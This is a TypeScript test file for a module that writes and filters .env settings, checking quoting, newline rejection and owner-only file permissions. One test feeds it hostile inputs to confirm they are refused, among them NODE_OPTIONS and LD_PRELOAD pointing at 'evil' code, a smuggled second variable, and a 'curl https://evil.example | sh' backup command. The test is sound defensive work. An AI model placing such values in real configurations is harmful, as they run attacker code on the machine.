import { mkdtemp, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseEnv } from 'node:util';
import fc from 'fast-check';
import { expect, onTestFinished, test } from 'vitest';
import { formatEnv, pickSettings, readEnvFile, writeEnvFile } from './env-file.ts';

test('Node reads every value of a written .env as it was', () => {
  const value = fc.string({ unit: fc.constantFrom(...'aZ9 #=\'"`$\\{}:/,.é€') }).map((text) => text.trim());
  fc.assert(
    fc.property(value, (text) => {
      const written = (() => {
        try {
          return formatEnv({ FIRST: text, LAST: 'x' });
        } catch {
          return null;
        }
      })();
      // Only what contains every kind of quote is refused.
      if (written === null) expect(text).toMatch(/(?=.*')(?=.*`)(?=.*["\\])/);
      else expect(parseEnv(written)).toEqual({ FIRST: text, LAST: 'x' });
    }),
  );
});

test('a name with an apostrophe gets quotes that Docker and systemd know too', () => {
  expect(formatEnv({ PRODUCT_NAME: "Bob's Club" })).toContain('PRODUCT_NAME="Bob\'s Club"\n');
});

test('a value with a line break is not written to .env', () => {
  expect(() => formatEnv({ PRODUCT_NAME: 'one\ntwo' })).toThrow('PRODUCT_NAME has characters');
});

test('only settings that Argus knows, that fit on a line and that run nothing are picked', () => {
  const text = [
    'PORT=3100',
    'NODE_OPTIONS=--require ./evil.js',
    'LD_PRELOAD=/evil.so',
    'PATH=/evil',
    'constructor=x',
    'PRODUCT_NAME="Argus\nNODE_OPTIONS=--require ./evil.js"',
    "CONTACT_EMAIL='a\u001b[2J@example.test'",
    "BACKUP_COMMAND='curl https://evil.example | sh'",
    'COFFEE_URL="https://coffee.example/#me"',
  ].join('\n');
  const { settings, leftOut } = pickSettings(text);
  expect(settings).toEqual({ PORT: '3100', COFFEE_URL: 'https://coffee.example/#me' });
  expect(leftOut).toBe(7);
  expect(parseEnv(formatEnv(settings))).toEqual(settings);
});

test('.env is readable by its owner alone, also when it replaces another, and no draft is left', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'argus-env-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const path = join(folder, '.env');
  expect(await readEnvFile(path)).toBeNull();
  for (const PORT of ['3000', '4000']) {
    await writeEnvFile(path, { PORT });
    expect(await readEnvFile(path)).toEqual({ PORT });
    expect((await stat(path)).mode & 0o777).toBe(0o600);
  }
  expect(await readdir(folder)).toEqual(['.env']);
});
